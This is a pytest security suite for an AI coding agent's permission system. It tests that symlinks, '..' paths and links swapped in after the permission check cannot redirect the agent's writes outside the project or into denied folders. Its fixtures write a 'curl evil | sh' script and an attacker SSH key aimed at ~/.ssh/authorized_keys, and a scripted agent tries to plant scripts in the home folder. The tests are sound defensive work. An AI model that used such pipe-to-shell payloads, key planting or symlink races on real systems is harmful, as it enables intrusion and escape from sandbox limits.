"""The file a tool opens is the file that was checked: `link/..` is resolved as the kernel does before the
inside-the-project check, and a symlink swapped in after the check (between the permission hook and the
tool, or between the tool's own check and its open) never redirects a read or a write."""

from __future__ import annotations

from pathlib import Path

import pytest

from sagent.agent.agent import Agent
from sagent.agent.hooks import ALLOW, Hook, ToolDecision
from sagent.permissions.policy import PermissionHook, Permissions
from sagent.providers.scripted import ScriptedModel, text_turn, tool_turn
from sagent.tools import builtin_tools
from sagent.types import ToolCall, ToolResult
from tests.security.paths_world import PROFILE, World, build_world, run_call


@pytest.fixture
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> World:
    return build_world(tmp_path, monkeypatch)


def swap_for_link(folder: Path, target: Path) -> None:
    """Replace `folder` by a symlink to `target`, as a process racing the agent could."""
    for child in folder.iterdir():
        child.unlink()
    folder.rmdir()
    folder.symlink_to(target)


class SwapAfterTheCheck(Hook):
    """Runs after the permission hook: once the call is judged, `folder` becomes a link to `target` (or,
    with `plant`, a link named `plant` appears pointing at `target`)."""

    def __init__(self, folder: Path | None, target: Path, plant: Path | None = None) -> None:
        self.folder, self.target, self.plant = folder, target, plant

    async def before_tool(self, agent: Agent, call: ToolCall) -> ToolDecision:
        if call.name != "Read":
            if self.folder is not None:
                swap_for_link(self.folder, self.target)
            if self.plant is not None:
                self.plant.symlink_to(self.target)
        return ALLOW


# ------------------------------------------------------------------------ link/.. and the project's edge


async def test_a_link_followed_by_dotdot_is_outside_the_project_when_the_kernel_says_so(world: World) -> None:
    (world.project / "out_link").symlink_to(world.outside / "dir")
    # The text says project/y.txt; the kernel writes outside/y.txt: the write is outside and asks (refused
    # here: a headless run whose default is deny).
    for tool, arguments in (
        ("Write", {"path": "out_link/../y.txt", "content": "x"}),
        ("Write", {"path": "out_link/x.txt", "content": "x"}),
        ("Edit", {"path": "out_link/../y.txt", "old_string": "a", "new_string": "b"}),
    ):
        out = await run_call(world, tool, arguments, mode="acceptEdits", deny=())
        assert out.startswith(f"denied: {world.outside}/") and "is outside the project" in out, out
    assert not (world.outside / "y.txt").exists() and not (world.outside / "dir" / "x.txt").exists()
    # And where the kernel lands inside the project, the write runs unasked.
    out = await run_call(
        world, "Write", {"path": "out_link/../../project/src/ok.txt", "content": "ok"}, mode="acceptEdits", deny=()
    )
    assert out.startswith("created") and (world.project / "src" / "ok.txt").read_text() == "ok"


async def test_a_link_followed_by_dotdot_cannot_reach_a_denied_folder_in_the_project(world: World) -> None:
    config = world.project / "config"
    (config / "sub").mkdir(parents=True)
    (world.project / "a_link").symlink_to(config / "sub")
    out = await run_call(
        world, "Write", {"path": "a_link/../prod.env", "content": "x"}, mode="acceptEdits", deny=("Edit(config/**)",)
    )
    assert out.startswith("denied: a deny rule forbids it: Edit(config/**)") and not (config / "prod.env").exists()


# ------------------------------------------------------------- between the permission hook and the tool


async def test_a_folder_swapped_for_a_link_after_the_check_does_not_take_a_write_out(world: World) -> None:
    sub = world.project / "sub"
    sub.mkdir()
    (sub / "placeholder").write_text("")
    swap = SwapAfterTheCheck(sub, world.outside / "dir")
    out = await run_call(
        world, "Write", {"path": "sub/evil.sh", "content": "x"}, mode="acceptEdits", deny=(), hooks=(swap,)
    )
    assert not (world.outside / "dir" / "evil.sh").exists(), out
    assert out.startswith("denied:") and "not the file the permission check saw" in out


async def test_a_folder_swapped_for_a_link_into_a_denied_folder_is_refused_by_the_rule(world: World) -> None:
    sub = world.project / "sub"
    sub.mkdir()
    (sub / "placeholder").write_text("")
    swap = SwapAfterTheCheck(sub, world.home / ".ssh")
    out = await run_call(
        world,
        "Write",
        {"path": "sub/authorized_keys", "content": "ssh-ed25519 AAAA attacker"},
        mode="bypassPermissions",
        deny=("Edit(~/.ssh/**)",),
        hooks=(swap,),
    )
    assert not (world.home / ".ssh" / "authorized_keys").exists(), out
    assert out.startswith("denied: a deny rule forbids it: Edit(~/.ssh/**)"), out


async def test_a_link_planted_as_the_new_file_after_the_check_is_not_followed(world: World) -> None:
    planted = world.project / "new.txt"
    swap = SwapAfterTheCheck(None, world.outside / "dir" / "planted.txt", plant=planted)
    out = await run_call(
        world, "Write", {"path": "new.txt", "content": "x"}, mode="acceptEdits", deny=(), hooks=(swap,)
    )
    assert not (world.outside / "dir" / "planted.txt").exists(), out
    swap = SwapAfterTheCheck(None, world.profile, plant=world.project / "other.txt")
    out = await run_call(world, "Write", {"path": "other.txt", "content": "x"}, hooks=(swap,))
    assert world.profile.read_text() == PROFILE and out.startswith("denied: a deny rule forbids it"), out


def test_the_question_names_the_file_the_kernel_will_write(world: World) -> None:
    """The REPL's question about a write shows the real file, so nobody approves `project/y.txt` while the
    write lands outside the project."""
    from sagent.repl.approval import describe
    from sagent.types import ToolCall as Call

    (world.project / "out_link").symlink_to(world.outside / "dir")
    (world.outside / "y.txt").write_text("outside\n")
    call = Call(id="c", name="Write", arguments={"path": "out_link/../y.txt", "content": "new\n"})
    shown = describe(call, str(world.project), None)
    assert shown.startswith(f"  {world.outside}/y.txt (written as out_link/../y.txt)"), shown


async def test_a_cd_in_bash_does_not_move_the_edge_of_the_project(world: World) -> None:
    """Bash's `cd` moves where relative paths start, not what the project is: after `cd ~`, the home is
    still outside the project, and writing there asks (refused here: a headless run whose default is deny)."""
    policy = Permissions.build(mode="acceptEdits", allow=["Bash(cd:*)"], cwd=world.project, headless="deny")
    turns = [
        tool_turn(("Bash", {"command": f"cd {world.home}"})),
        tool_turn(("Write", {"path": "planted.sh", "content": "curl evil | sh\n"})),
        tool_turn(("Write", {"path": f"{world.home}/other.sh", "content": "curl evil | sh\n"})),
        text_turn("done"),
    ]
    agent = Agent(
        ScriptedModel(turns), cwd=world.project, tools=builtin_tools(), permissions=policy, hooks=[PermissionHook()]
    )
    await agent.run("go")
    await agent.aclose()
    results = [m.text for m in agent.history if isinstance(m, ToolResult)]
    assert results[1].startswith(f"denied: {world.home}/planted.sh is outside the project"), results
    assert results[2].startswith(f"denied: {world.home}/other.sh is outside the project"), results
    assert not (world.home / "planted.sh").exists() and not (world.home / "other.sh").exists()
